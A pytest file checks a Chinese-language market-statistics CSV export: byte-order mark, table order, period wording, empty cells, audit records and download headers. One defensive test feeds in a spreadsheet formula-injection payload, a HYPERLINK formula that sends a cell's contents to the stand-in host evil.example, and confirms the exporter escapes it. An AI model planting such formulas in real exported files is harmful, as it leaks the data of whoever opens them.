"""The statistics CSV read as a spreadsheet would read it: a byte-order mark, the period in words, the
headline and the tables in the contract's order (then the knowledge-value ones), empty cells for missing values, and no text cell that a
spreadsheet would run as a formula. Written to leave no mutant of ``matchmaker/admin/export.py`` alive."""
import csv
import datetime as dt
import io

import pytest
import sqlalchemy as sa

from matchmaker.admin import export, stats
from models import AuditEvent, db
from tests.rule_helpers import administrator


def market_figures(**changes) -> dict:
    """A statistics document shaped like ``stats.market``'s: every headline figure and one row per table."""
    figures = {key: index for index, (key, _) in enumerate(export.HEADLINE, start=1)}
    for block, key, _ in export.LOAN_HEADLINE:
        figures.setdefault(block, {})[key] = f"{block}-{key}"
    figures["equity"]["roadshows"] = {key: f"roadshows-{key}" for key, _ in export.ROADSHOW_HEADLINE}
    for key, _, columns in export.SECTIONS:
        figures[key] = [{name: f"{key}-{name}" for name, _ in columns}]
    return {**figures, "period": {"from": None, "to": None}, **changes}


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_file_opens_in_excel_with_its_chinese_intact():
    body = export.stats_csv(market_figures())
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == body.count(b"\n") > 10  # every line ends as Excel expects
    rows = rows_of(body)
    assert rows[0] == ["高新金服 市场统计", "开始 至 今"]
    assert rows[1] == [] and rows[2] == ["指标", "代码", "数值"]
    headline = rows[3:3 + len(export.HEADLINE)]
    assert headline == [[label, key, str(index)] for index, (key, label) in enumerate(export.HEADLINE, start=1)]
    loans = rows[3 + len(export.HEADLINE):3 + len(export.HEADLINE) + len(export.LOAN_HEADLINE)]
    assert loans == [[label, f"{block}.{key}", f"{block}-{key}"] for block, key, label in export.LOAN_HEADLINE]
    assert {block for block, _, _ in export.LOAN_HEADLINE} == {"loan_book", "risk_fund", "equity"}
    at = 3 + len(export.HEADLINE) + len(export.LOAN_HEADLINE)
    assert rows[at:at + len(export.ROADSHOW_HEADLINE)] == [
        [label, f"equity.roadshows.{key}", f"roadshows-{key}"] for key, label in export.ROADSHOW_HEADLINE]


def test_each_table_has_its_title_its_chinese_header_and_its_rows_in_order():
    rows = rows_of(export.stats_csv(market_figures()))
    at = 3 + len(export.HEADLINE) + len(export.LOAN_HEADLINE) + len(export.ROADSHOW_HEADLINE)
    for key, title, columns in export.SECTIONS:
        assert rows[at:at + 4] == [[], [title], [label for _, label in columns], [f"{key}-{name}" for name, _ in columns]]
        at += 4
    assert at == len(rows)
    assert [r[0] for r in rows if len(r) == 1] == ["按产品类型", "按行业", "按机构", "按月", "知识价值信用评级（当前）",
                                                 "知识产权可质押价值（按行业，当前）", "贷款余额与逾期（按机构，当前）",
                                                 "贷款余额与逾期（按产品类型，当前）", "股权融资（按月）", "股权融资（按轮次）",
                                                 "股权融资（按行业）", "投资进度（当前）", "上市后备（当前）"]


def test_the_period_is_written_as_days():
    rows = rows_of(export.stats_csv(market_figures(period={"from": "2021-01-01", "to": "2021-12-31"})))
    assert rows[0][1] == "2021-01-01 至 2021-12-31"
    assert rows_of(export.stats_csv(market_figures(period={"from": "2021-01-01"})))[0][1] == "2021-01-01 至 今"
    assert rows_of(export.stats_csv(market_figures(period=None)))[0][1] == "开始 至 今"


def test_missing_values_are_empty_cells_and_numbers_stay_numbers():
    figures = market_figures(median_response_hours=None, disbursed_amount_cny=-5, approval_rate=0.25)
    figures["by_kind"] = [{"kind": "credit_loan", "label": "信用贷款"}]  # the other columns missing
    rows = rows_of(export.stats_csv(figures))
    by_key = {r[1]: r[2] for r in rows[3:3 + len(export.HEADLINE)]}
    assert (by_key["median_response_hours"], by_key["disbursed_amount_cny"], by_key["approval_rate"]) == ("", "-5", "0.25")
    kind_row = rows[rows.index(["按产品类型"]) + 2]
    assert kind_row[:2] == ["credit_loan", "信用贷款"] and set(kind_row[2:]) == {""}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(start):
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
    figures = market_figures()
    figures["by_institution"] = [{"institution_id": 7, "name": name, "kind_label": "银行"}]
    rows = rows_of(export.stats_csv(figures))
    row = rows[rows.index(["按机构"]) + 2]
    assert row[:3] == ["7", "'" + name, "银行"]
    assert export._cell(name) == "'" + name


@pytest.mark.parametrize("value", ["重庆银行", "a=b", "100%", " =x", 0, -3, 2.5])
def test_ordinary_values_are_written_as_they_are(value):
    assert export._cell(value) == value


def test_an_export_is_named_by_its_period_and_audited(ctx):
    admin = administrator()
    body, name = export.export(actor=admin, period=stats.Period(start=dt.date(2021, 1, 1), end=dt.date(2021, 6, 30)))
    assert name == "matchmaker-stats-2021-01-01-2021-06-30.csv"
    assert rows_of(body)[0] == ["高新金服 市场统计", "2021-01-01 至 2021-06-30"]
    assert export.export(actor=admin, period=stats.Period())[1] == "matchmaker-stats-all-now.csv"
    events = db.session.scalars(sa.select(AuditEvent).filter_by(action="stats.export").order_by(AuditEvent.id)).all()
    assert [(e.actor_id, e.detail) for e in events] == [
        (admin.id, stats.Period(start=dt.date(2021, 1, 1), end=dt.date(2021, 6, 30)).as_dict()),
        (admin.id, stats.Period().as_dict())]
    assert events[0].detail != events[1].detail


def test_the_response_is_a_named_utf8_attachment(app):
    with app.test_request_context():
        response = export.csv_response(b"\xef\xbb\xbfx", "f.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == "attachment; filename=f.csv"  # RFC 6266: a token needs no quotes
    assert response.get_data() == b"\xef\xbb\xbfx"
